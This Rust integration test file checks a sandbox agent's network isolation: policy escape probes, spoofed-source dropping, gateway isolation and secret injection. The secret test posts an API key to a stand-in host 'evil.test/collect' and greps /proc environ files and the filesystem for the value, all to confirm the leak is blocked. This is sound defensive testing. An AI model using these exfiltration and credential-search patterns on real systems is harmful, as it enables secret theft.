//! Network policy, probed from inside sandboxes in a closed world (tests/common/world.rs): every
//! address a probe targets is a test host in namespaces this test made, so a policy that fails
//! open can only reach those. One sandbox per policy runs every probe (TCP, UDP and ICMP echo by
//! address, then TCP by DNS name through the agent's resolver); the matrix of what got through
//! must be exactly the expected one.

mod common;
#[path = "common/world.rs"]
mod world;

use common::*;
use microsandbox_client::api::CreateSandbox;
use microsandbox_client::AgentClient;
use std::collections::{BTreeMap, BTreeSet};
use world::*;

/// Runs the probes given as JSON: `[{"id", "kind": tcp|udp|icmp, "host"}]`, by address first
/// (in parallel), then by name; prints `{id: reached}`.
const PROBE: &str = r#"
import json, socket, struct, sys, threading
probes = json.loads(sys.argv[1])
out = {}
def gateway():
    try:
        text = open("/etc/resolv.conf").read()
    except OSError:
        return None
    if "microsandbox" not in text:
        return None
    return [l.split()[1] for l in text.splitlines() if l.startswith("nameserver")][0]
def resolve(h):
    if h == "gateway":
        g = gateway()
        if g is None:
            raise OSError("no gateway")
        return g
    return socket.getaddrinfo(h, None, socket.AF_INET)[0][4][0]
def tcp(h):
    s = socket.create_connection((resolve(h), 7), timeout=1.5)
    s.sendall(b"probe")
    return s.recv(16) == b"probe"
def udp(h):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    s.sendto(b"probe", (resolve(h), 7))
    return s.recvfrom(16)[0] == b"probe"
def icmp(h):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1.5)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"probe", (resolve(h), 0))
    return s.recv(64)[0] == 0
def run(p):
    try:
        out[p["id"]] = bool(globals()[p["kind"]](p["host"]))
    except Exception:
        out[p["id"]] = False
for phase in (False, True):
    ts = [threading.Thread(target=run, args=(p,)) for p in probes if p["by_name"] == phase]
    for t in ts: t.start()
    for t in ts: t.join()
print(json.dumps(out))
"#;

const NAMES: &[&str] = &[
    "public.test",
    "private.test",
    "metadata.test",
    "rebind.test",
    "api.allowed.test",
];

fn probes() -> Vec<serde_json::Value> {
    let mut v = Vec::new();
    for host in [
        PUBLIC,
        PRIVATE,
        CGNAT,
        METADATA,
        HOST,
        "gateway",
        "127.0.0.1",
    ] {
        for kind in ["tcp", "udp", "icmp"] {
            if host == "127.0.0.1" && kind == "icmp" {
                // A wired sandbox answers pings on its own loopback: that is itself, not the
                // host. TCP/UDP there would reach the host's echo servers if loopback leaked.
                continue;
            }
            v.push(serde_json::json!({"id": format!("{kind} {host}"), "kind": kind, "host": host, "by_name": false}));
        }
    }
    for name in NAMES {
        v.push(serde_json::json!({"id": format!("tcp {name}"), "kind": "tcp", "host": name, "by_name": true}));
    }
    v
}

fn all3(host: &str) -> Vec<String> {
    ["tcp", "udp", "icmp"]
        .iter()
        .map(|k| format!("{k} {host}"))
        .collect()
}

async fn reached(c: &AgentClient, name: &str, network: serde_json::Value) -> BTreeSet<String> {
    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
        "name": name, "image": "python", "detached": true, "isolation": "container",
        "memory_mib": 128, "network": network,
    }))
    .unwrap();
    c.create(req)
        .await
        .unwrap_or_else(|e| panic!("create {name}: {e}"));
    let list = serde_json::to_string(&probes()).unwrap();
    let out = c
        .exec(name, cmd("python3", &["-c", PROBE, &list]))
        .await
        .unwrap();
    assert_eq!(out.exit_code, 0, "probe script: {}", out.stderr_str());
    let results: BTreeMap<String, bool> = serde_json::from_str(out.stdout_str().trim())
        .unwrap_or_else(|e| panic!("probe output {e}: {}{}", out.stdout_str(), out.stderr_str()));
    c.remove(name).await.unwrap();
    results
        .into_iter()
        .filter(|(_, ok)| *ok)
        .map(|(id, _)| id)
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escape_matrix_holds_under_every_policy() {
    let world = World::new();
    let agent = TestAgent::start_with(
        "network",
        &world
            .agent_args()
            .iter()
            .map(String::as_str)
            .collect::<Vec<_>>(),
    );
    let c = agent.client();
    let public: Vec<String> = all3(PUBLIC);
    let cases: Vec<(&str, serde_json::Value, Vec<String>)> = vec![
        ("none", serde_json::json!({"policy": "none"}), vec![]),
        (
            "public",
            serde_json::json!({"policy": "public_only"}),
            [public.clone(), vec!["tcp public.test".into()]].concat(),
        ),
        (
            "all",
            serde_json::json!({"policy": "allow_all"}),
            [
                public.clone(),
                all3(PRIVATE),
                all3(CGNAT),
                all3(METADATA),
                vec![
                    "tcp public.test".into(),
                    "tcp private.test".into(),
                    "tcp metadata.test".into(),
                    "tcp api.allowed.test".into(),
                ],
            ]
            .concat(),
        ),
        (
            "pub-cidr",
            serde_json::json!({"policy": "public_only", "allow": ["10.77.0.0/16"]}),
            [
                public.clone(),
                all3(PRIVATE),
                vec![
                    "tcp public.test".into(),
                    "tcp private.test".into(),
                    "tcp api.allowed.test".into(),
                ],
            ]
            .concat(),
        ),
        (
            "pub-name",
            serde_json::json!({"policy": "public_only", "allow": ["api.allowed.test"]}),
            [
                public.clone(),
                vec!["tcp public.test".into(), "tcp api.allowed.test".into()],
            ]
            .concat(),
        ),
        (
            "none-name",
            serde_json::json!({"policy": "none", "allow": ["*.allowed.test"]}),
            vec!["tcp api.allowed.test".into()],
        ),
    ];
    let mut report = String::new();
    let mut escapes = 0;
    let mut failures = Vec::new();
    for (name, network, expected) in cases {
        let got = reached(&c, &format!("net-{name}"), network.clone()).await;
        let expected: BTreeSet<String> = expected.into_iter().collect();
        let escaped: Vec<_> = got.difference(&expected).cloned().collect();
        let blocked: Vec<_> = expected.difference(&got).cloned().collect();
        escapes += escaped.len();
        report.push_str(&format!(
            "{network}: reached {} of {} probes{}{}\n",
            got.len(),
            probes().len(),
            if escaped.is_empty() {
                String::new()
            } else {
                format!("; ESCAPED {escaped:?}")
            },
            if blocked.is_empty() {
                String::new()
            } else {
                format!("; wrongly blocked {blocked:?}")
            },
        ));
        if !escaped.is_empty() || !blocked.is_empty() {
            failures.push(name);
        }
    }
    println!("{report}escapes: {escapes}");
    assert!(
        failures.is_empty(),
        "policies {failures:?} misbehaved:\n{report}\nagent log:\n{}",
        agent.log()
    );
    assert_eq!(escapes, 0);
    // Every sandbox was removed: nothing of theirs is left in the uplink namespace.
    assert_eq!(world.leftovers(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn published_port_reaches_the_sandbox_from_host_loopback() {
    let world = World::new();
    let args = world.agent_args();
    let agent = TestAgent::start_with(
        "network-publish",
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let c = agent.client();
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
        "name": "web", "image": "busybox", "detached": true, "isolation": "container",
        "memory_mib": 64,
        "network": {"policy": "none", "publish": [{"host_port": port, "guest_port": 8080}]},
    }))
    .unwrap();
    c.create(req).await.unwrap();
    sh(
        &c,
        "web",
        "mkdir -p /www && echo published-ok > /www/index.html && httpd -p 8080 -h /www",
    )
    .await;
    let body = tokio::task::spawn_blocking(move || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
        s.write_all(b"GET /index.html HTTP/1.0\r\n\r\n").unwrap();
        let mut out = String::new();
        s.read_to_string(&mut out).unwrap();
        out
    })
    .await
    .unwrap();
    assert!(body.contains("published-ok"), "{body}");
    // The policy is still `none`: the sandbox itself reaches nothing.
    let out = sh(
        &c,
        "web",
        &format!("nc -w 1 {PUBLIC} 7 </dev/null && echo reached || echo blocked"),
    )
    .await;
    assert_eq!(out.stdout_str().trim(), "blocked");
    c.remove("web").await.unwrap();
    assert!(
        std::net::TcpStream::connect(("127.0.0.1", port)).is_err(),
        "port still published"
    );
    assert_eq!(world.leftovers(), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_network_specs_are_refused_before_anything_is_made() {
    let agent = TestAgent::start("network-bad");
    let c = agent.client();
    for (network, needle) in [
        (
            serde_json::json!({"policy": "public_only", "allow": ["not a host"]}),
            "neither a CIDR",
        ),
        (
            serde_json::json!({"policy": "public_only", "allow": ["::1/128"]}),
            "IPv6",
        ),
        (
            serde_json::json!({"policy": "sometimes"}),
            "unknown variant",
        ),
        (
            serde_json::json!({"publish": [{"host_port": 1, "guest_port": 2}, {"host_port": 1, "guest_port": 3}]}),
            "published twice",
        ),
    ] {
        let req = serde_json::json!({
            "name": "bad", "image": "busybox", "detached": true, "isolation": "container",
            "network": network,
        });
        let err = match serde_json::from_value::<CreateSandbox>(req) {
            Err(e) => e.to_string(),
            Ok(req) => c.create(req).await.unwrap_err().to_string(),
        };
        assert!(err.contains(needle), "{network}: {err}");
    }
    assert!(c.list().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_survives_an_agent_restart_and_is_removed_with_the_sandbox() {
    let world = World::new();
    let args = world.agent_args();
    let mut agent = TestAgent::start_with(
        "network-restart",
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let c = agent.client();
    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
        "name": "keep", "image": "busybox", "detached": true, "isolation": "container",
        "memory_mib": 64, "network": {"policy": "public_only"},
    }))
    .unwrap();
    c.create(req).await.unwrap();
    let probe = format!(
        "echo hi | nc -w 1 {PUBLIC} 7; nslookup public.test >/dev/null && echo resolved; \
         nc -w 1 {PRIVATE} 7 </dev/null && echo private-reached || true"
    );
    let before = sh(&c, "keep", &probe).await.stdout_str().to_string();
    assert_eq!(
        before.split_whitespace().collect::<Vec<_>>(),
        ["hi", "resolved"],
        "{before}"
    );
    agent.kill9();
    // Make the rules what an older agent version left: a chain of its own for every sandbox
    // and no `sources` element. The restarted agent must move it to the shared chain of its
    // policy and restore its source address (or its traffic would be dropped).
    let nft = |script: &str| {
        host(
            "ip",
            &["netns", "exec", &world.uplink, "nft", "-f", "-"],
            Some(script),
        );
    };
    let list = |what: &str| {
        let args = [
            "netns",
            "exec",
            &world.uplink,
            "nft",
            "list",
            what,
            "inet",
            "microsandbox",
        ];
        host("ip", &args, None)
    };
    let sources = list("table");
    let (host_if, addr) = sources
        .lines()
        .find_map(|l| {
            let l = l.trim().strip_prefix("elements = {")?;
            let l = l.trim_end_matches('}').trim();
            let (i, a) = l.split_once(" . ")?;
            Some((i.trim_matches('"').to_string(), a.trim().to_string()))
        })
        .unwrap_or_else(|| panic!("no sources element in\n{sources}"));
    let index = host_if.trim_start_matches("msb");
    nft(&format!(
        "delete element inet microsandbox sources {{ \"{host_if}\" . {addr} }}
add chain inet microsandbox sbx_{index}
add rule inet microsandbox sbx_{index} ip saddr != {addr} drop
add rule inet microsandbox sbx_{index} ip daddr @blocked drop
add rule inet microsandbox sbx_{index} accept
delete element inet microsandbox sandboxes {{ \"{host_if}\" }}
add element inet microsandbox sandboxes {{ \"{host_if}\" : jump sbx_{index} }}
"
    ));
    agent.restart();
    let c = agent.client();
    let table = list("table");
    assert!(!table.contains(&format!("chain sbx_{index}")), "{table}");
    assert!(
        table.contains(&format!("\"{host_if}\" : jump policy_public_only")),
        "{table}"
    );
    // Rules and links outlived the agent; its resolver came back with it.
    let after = sh(&c, "keep", &probe).await.stdout_str().to_string();
    assert_eq!(
        after.split_whitespace().collect::<Vec<_>>(),
        ["hi", "resolved"],
        "{after}\n{}",
        agent.log()
    );
    c.remove("keep").await.unwrap();
    assert_eq!(world.leftovers(), Vec::<String>::new());
    let prefix = microsandbox_agent::network::netns_prefix(&agent.state);
    assert!(!std::path::Path::new("/run/netns")
        .join(format!("{prefix}keep"))
        .exists());
}

/// The host side of a sandbox's link serves it a resolver (and, with secrets, a proxy) on its
/// own gateway address; another sandbox must not use them: a resolver that forwards any name
/// would be a DNS channel out of a sandbox with no network, a proxy a way around its policy.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sandbox_reaches_only_its_own_gateway() {
    let world = World::new();
    let args = world.agent_args();
    let agent = TestAgent::start_with(
        "network-gateways",
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let c = agent.client();
    for (name, network, secrets) in [
        (
            "open",
            serde_json::json!({"policy": "allow_all"}),
            serde_json::json!([{"env": "API_KEY", "value": "sk-x", "allow_hosts": ["api.secret.test"]}]),
        ),
        // (An allowed name gives it a link and a resolver that forwards only that name.)
        (
            "closed",
            serde_json::json!({"policy": "none", "allow": ["api.allowed.test"]}),
            serde_json::json!([]),
        ),
    ] {
        let req: CreateSandbox = serde_json::from_value(serde_json::json!({
            "name": name, "image": "busybox", "detached": true, "isolation": "container",
            "memory_mib": 64, "network": network, "secrets": secrets,
        }))
        .unwrap();
        c.create(req).await.unwrap();
    }
    let gateway = |name: &'static str| {
        let c = c.clone();
        async move {
            let conf = sh(&c, name, "cat /etc/resolv.conf").await;
            conf.stdout_str()
                .lines()
                .find_map(|l| l.strip_prefix("nameserver "))
                .unwrap_or_else(|| panic!("{name}: {}", conf.stderr_str()))
                .trim()
                .to_string()
        }
    };
    let (open_gw, closed_gw) = (gateway("open").await, gateway("closed").await);
    assert_ne!(open_gw, closed_gw);
    let probe = |gw: &str| {
        format!(
            "nslookup public.test {gw} >/dev/null 2>&1 && echo dns; \
             nc -w 1 {gw} {http} </dev/null >/dev/null 2>&1 && echo proxy; true",
            http = microsandbox_agent::network::plan::PROXY_HTTP_PORT,
        )
    };
    // Control: the open sandbox resolves and reaches its proxy through its own gateway.
    let own = sh(&c, "open", &probe(&open_gw)).await;
    assert_eq!(
        own.stdout_str().split_whitespace().collect::<Vec<_>>(),
        ["dns", "proxy"],
        "{}",
        agent.log()
    );
    // The closed one sends the same packets to the open one's gateway: nothing answers.
    let other = sh(&c, "closed", &probe(&open_gw)).await;
    assert_eq!(
        other.stdout_str().trim(),
        "",
        "a sandbox used another's gateway"
    );
    // Nor the other way round (the closed sandbox's own resolver forwards nothing).
    let back = sh(&c, "open", &probe(&closed_gw)).await;
    assert_eq!(back.stdout_str().trim(), "");
    for name in ["open", "closed"] {
        c.remove(name).await.unwrap();
    }
    assert_eq!(world.leftovers(), Vec::<String>::new());
}

/// An agent on `world` (state `state`) with one running busybox sandbox `name` under policy
/// `allow_all`, and the sandbox's network namespace.
async fn allow_all_sandbox(world: &World, state: &str, name: &str) -> (TestAgent, String) {
    let args = world.agent_args();
    let agent = TestAgent::start_with(state, &args.iter().map(String::as_str).collect::<Vec<_>>());
    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
        "name": name, "image": "busybox", "detached": true, "isolation": "container",
        "memory_mib": 64, "network": {"policy": "allow_all"},
    }))
    .unwrap();
    agent.client().create(req).await.unwrap();
    let netns = format!(
        "{}{name}",
        microsandbox_agent::network::netns_prefix(&agent.state)
    );
    (agent, netns)
}

/// Packets a sandbox sends from an address that is not its own are dropped where they leave
/// its link, whatever its policy allows (here: anything). The test itself gives the sandbox's
/// interface two more addresses (a sandbox cannot: it has no CAP_NET_ADMIN) and sends from
/// each address to a test host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn spoofed_source_addresses_are_dropped() {
    let world = World::new();
    let (agent, netns) = allow_all_sandbox(&world, "network-spoof", "spoof").await;
    let ip = |args: &[&str]| host("ip", &[&["-n", netns.as_str()], args].concat(), None);
    let own: std::net::Ipv4Addr = ip(&["-4", "-o", "addr", "show", "dev", "eth0"])
        .split_whitespace()
        .skip_while(|w| *w != "inet")
        .nth(1)
        .and_then(|a| a.split('/').next())
        .and_then(|a| a.parse().ok())
        .expect("the sandbox's address");
    // Another sandbox's address in the pool (the next /30), and one outside it.
    let neighbour = std::net::Ipv4Addr::from(u32::from(own) + 4);
    let outside: std::net::Ipv4Addr = "192.0.2.99".parse().unwrap();
    for fake in [neighbour, outside] {
        ip(&["addr", "add", &format!("{fake}/32"), "dev", "eth0"]);
    }
    // One datagram from each address to a test host, which records what arrives (a spoofed
    // packet needs no answer to do harm).
    let sink = world.udp_sink(PUBLIC, 9);
    for source in [own, neighbour, outside] {
        let script = format!(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.bind(('{source}', 0))\ns.sendto(b'from {source}', ('{PUBLIC}', 9))"
        );
        host(
            "ip",
            &["netns", "exec", &netns, "python3", "-c", &script],
            None,
        );
    }
    // The sandbox's own datagram is the control: once it arrived, the others had their time.
    let expected = vec![format!("from {own}")];
    for _ in 0..50 {
        if !sink.lock().unwrap().is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(*sink.lock().unwrap(), expected, "spoofed datagrams got out");
    agent.client().remove("spoof").await.unwrap();
    assert_eq!(world.leftovers(), Vec::<String>::new());
}

/// Python in the sandbox: GET each URL with `Authorization: Bearer $API_KEY`; prints
/// `[[status, body], ...]`.
const FETCH: &str = r#"
import json, os, sys, urllib.request, urllib.error
out = []
mode = sys.argv[1]
for url in sys.argv[2:]:
    if mode == "body":
        body = json.dumps({"key": os.environ["API_KEY"]}).encode()
        req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    else:
        req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
    try:
        r = urllib.request.urlopen(req, timeout=10)
        out.append([r.status, r.read().decode()])
    except urllib.error.HTTPError as e:
        out.append([e.code, e.read().decode()])
    except Exception as e:
        out.append([0, repr(e)])
print(json.dumps(out))
"#;

/// Sandbox links speak IPv4 only: no IPv6 address on either end of the veth pair (no neighbour
/// discovery or multicast chatter for the host to handle), while the sandbox keeps `::1`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sandbox_links_carry_no_ipv6() {
    let world = World::new();
    let (agent, netns) = allow_all_sandbox(&world, "network-ipv6", "v6").await;
    let inside = host("ip", &["-n", &netns, "-6", "-o", "addr", "show"], None);
    assert!(inside.contains("::1"), "lo keeps ::1: {inside}");
    assert!(
        !inside.contains("eth0"),
        "eth0 has no IPv6 address: {inside}"
    );
    let links = world.leftovers();
    assert_eq!(links.len(), 1, "one sandbox link: {links:?}");
    let link = links[0].split('@').next().unwrap_or_default();
    let outside = host(
        "ip",
        &["-n", &world.uplink, "-6", "-o", "addr", "show", "dev", link],
        None,
    );
    assert!(
        outside.trim().is_empty(),
        "host end has no IPv6 address: {outside}"
    );
    // (IPv4 on these links: every other test here.)
    agent.client().remove("v6").await.unwrap();
}

/// Runs [`FETCH`] in sandbox `sec` (`mode`: the key in a header or a JSON body): the
/// (status, body) of each URL, and the exec's answer.
async fn fetch(
    c: &microsandbox_client::AgentClient,
    mode: &str,
    urls: &[&str],
) -> (Vec<(u16, String)>, microsandbox_client::Output) {
    let mut args = vec!["-c", FETCH, mode];
    args.extend_from_slice(urls);
    let out = c.exec("sec", cmd("python3", &args)).await.unwrap();
    let results = serde_json::from_str(out.stdout_str().trim())
        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
    (results, out)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
    use microsandbox_agent::network::secrets::SandboxCa;
    const VALUE: &str = "sk-live-9f8e7d6c5b4a39281706";
    let world = World::new();
    // The "real" servers' CA, which the agent's proxy is told to trust.
    let upstream_ca = SandboxCa::generate("test upstream").unwrap();
    let api = world.https_server(API, "api.secret.test", &upstream_ca);
    let evil = world.https_server(EVIL, "evil.test", &upstream_ca);
    let api_plain = world.http_server(API);
    let ca_file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(ca_file.path(), upstream_ca.cert_pem()).unwrap();
    let mut args = world.agent_args();
    args.extend(["--upstream-ca".into(), ca_file.path().display().to_string()]);
    let agent = TestAgent::start_with(
        "network-secrets",
        &args.iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let c = agent.client();
    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
        "name": "sec", "image": "python", "detached": true, "isolation": "container",
        "memory_mib": 128, "network": {"policy": "public_only"},
        "secrets": [{"env": "API_KEY", "value": VALUE, "allow_hosts": ["api.secret.test"]}],
    }))
    .unwrap();
    c.create(req).await.unwrap();
    let (results, out) = fetch(
        &c,
        "header",
        &[
            "https://api.secret.test/v1/things",
            "https://evil.test/collect",
            "http://api.secret.test/plain",
        ],
    )
    .await;
    // The exec's own answer names what it was refused.
    let refused: Vec<(&str, &str)> = out
        .secret_violations
        .iter()
        .map(|v| (v.secret.as_str(), v.host.as_str()))
        .collect();
    assert_eq!(
        refused,
        [("API_KEY", "evil.test"), ("API_KEY", "api.secret.test")]
    );
    assert_eq!(results[0], (200, "ok".to_string()), "{results:?}");
    assert_eq!(results[1].0, 403, "{results:?}");
    assert!(
        results[1]
            .1
            .contains("not on the allowed hosts of secret API_KEY"),
        "{results:?}"
    );
    assert_eq!(results[2].0, 403, "{results:?}");
    assert!(results[2].1.contains("only sent over HTTPS"), "{results:?}");
    // The allowed API got the real value; the others got nothing at all.
    let api_seen = api.lock().unwrap().clone();
    assert_eq!(api_seen.len(), 1, "{api_seen:?}");
    assert!(
        api_seen[0].contains(&format!("authorization: Bearer {VALUE}")),
        "{api_seen:?}"
    );
    assert!(evil.lock().unwrap().is_empty());
    assert!(api_plain.lock().unwrap().is_empty());
    // The same in a request body (JSON post): the value for the allowed API, a 403 elsewhere.
    let (results, out) = fetch(
        &c,
        "body",
        &["https://api.secret.test/v1/post", "https://evil.test/post"],
    )
    .await;
    assert_eq!(results[0], (200, "ok".to_string()), "{results:?}");
    assert_eq!(results[1].0, 403, "{results:?}");
    let api_seen = api.lock().unwrap().clone();
    assert_eq!(api_seen.len(), 2, "{api_seen:?}");
    assert!(
        api_seen[1].ends_with(&format!("{{\"key\": \"{VALUE}\"}}")),
        "{api_seen:?}"
    );
    assert!(evil.lock().unwrap().is_empty());
    assert_eq!(
        out.secret_violations.len(),
        1,
        "{:?}",
        out.secret_violations
    );
    assert_eq!(out.secret_violations[0].host, "evil.test");
    // Reported, with where it went and why.
    let v = c.secret_violations("sec").await.unwrap();
    let hosts: Vec<(&str, &str)> = v
        .iter()
        .map(|v| (v.secret.as_str(), v.host.as_str()))
        .collect();
    assert_eq!(
        hosts,
        [
            ("API_KEY", "evil.test"),
            ("API_KEY", "api.secret.test"),
            ("API_KEY", "evil.test")
        ]
    );
    // The guest holds a placeholder, nowhere the value: environment, every process's
    // environment, the whole filesystem.
    let env = sh(&c, "sec", "echo $API_KEY")
        .await
        .stdout_str()
        .trim()
        .to_string();
    assert!(env.starts_with("msb-secret-api-key-"), "{env}");
    // Each search has a positive control, so a search that cannot find anything fails the test.
    let search = format!(
        "V={VALUE:?}; P=\"$API_KEY\"; \
         env | grep -qF -- \"$V\" && echo FOUND-IN-ENV; \
         cat /proc/[0-9]*/environ | tr '\\0' '\\n' > /tmp/environs; \
         grep -qF -- \"$V\" /tmp/environs && echo FOUND-IN-PROC; \
         grep -qF -- \"$P\" /tmp/environs && echo CONTROL-PROC; rm /tmp/environs; \
         D=$(ls -d /* | grep -vxE '/(proc|sys|dev)'); \
         grep -rqsF -D skip -- \"$V\" $D && echo FOUND-ON-DISK; \
         grep -rqsF -D skip -- 'written by microsandbox' $D && echo CONTROL-DISK; true"
    );
    let found = sh(&c, "sec", &search).await.stdout_str().to_string();
    let lines: Vec<&str> = found.lines().collect();
    assert_eq!(
        lines,
        ["CONTROL-PROC", "CONTROL-DISK"],
        "searches for the value in the guest"
    );
    assert!(!agent.log().contains(VALUE), "value in the agent log");
    // Host side: the value is only in the agent's 0600 file, which goes with the sandbox.
    let secrets_file = agent.state.join("sandboxes/sec/secrets.json");
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&secrets_file).unwrap().permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);
    let state_json = std::fs::read_to_string(agent.state.join("sandboxes/sec/state.json")).unwrap();
    assert!(!state_json.contains(VALUE), "value in state.json");
    c.remove("sec").await.unwrap();
    assert!(!secrets_file.exists());
    assert_eq!(world.leftovers(), Vec::<String>::new());
}
